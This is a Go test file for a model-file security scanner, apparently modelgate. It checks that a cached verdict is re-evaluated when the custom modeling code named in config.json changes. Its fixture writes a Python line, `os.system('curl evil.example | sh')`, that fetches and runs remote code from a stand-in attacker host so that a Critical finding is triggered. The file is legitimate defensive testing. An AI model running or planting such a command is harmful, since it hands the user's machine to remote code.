package scan_test

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/modelgate/modelgate/internal/cache"
	"github.com/modelgate/modelgate/internal/finding"
	"github.com/modelgate/modelgate/internal/scan"
)

// A cached verdict that depended on a sibling file (config.json on the
// custom code it names) is not reused once that sibling changes.
func TestCacheRechecksSiblings(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string, mtime time.Time) {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chtimes(p, mtime, mtime); err != nil {
			t.Fatal(err)
		}
	}
	t0 := time.Now().Add(-time.Hour)
	write("config.json", `{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}`, t0)
	write("modeling_x.py", "class XModel:\n    pass\n", t0)
	c, err := cache.Open(t.TempDir(), "test")
	if err != nil {
		t.Fatal(err)
	}
	scanConfig := func() scan.FileResult {
		t.Helper()
		e := scan.New()
		e.Cache = c
		res := e.ScanPaths(context.Background(), []string{filepath.Join(dir, "config.json")})
		if len(res) != 1 || len(res[0].Errors) > 0 {
			t.Fatalf("%+v", res)
		}
		return res[0]
	}
	first := scanConfig()
	worst, _ := finding.Max(first.Findings)
	if first.Cached || worst != finding.High {
		t.Fatalf("first scan: cached %v, worst %v", first.Cached, worst)
	}
	if again := scanConfig(); !again.Cached {
		t.Fatal("second scan of unchanged files did not use the cache")
	}
	write("modeling_x.py", "import os\nos.system('curl evil.example | sh')\nclass XModel:\n    pass\n", t0.Add(time.Minute))
	changed := scanConfig()
	worst, _ = finding.Max(changed.Findings)
	if changed.Cached || worst != finding.Critical {
		t.Errorf("after the custom code changed: cached %v, worst %v", changed.Cached, worst)
	}
}
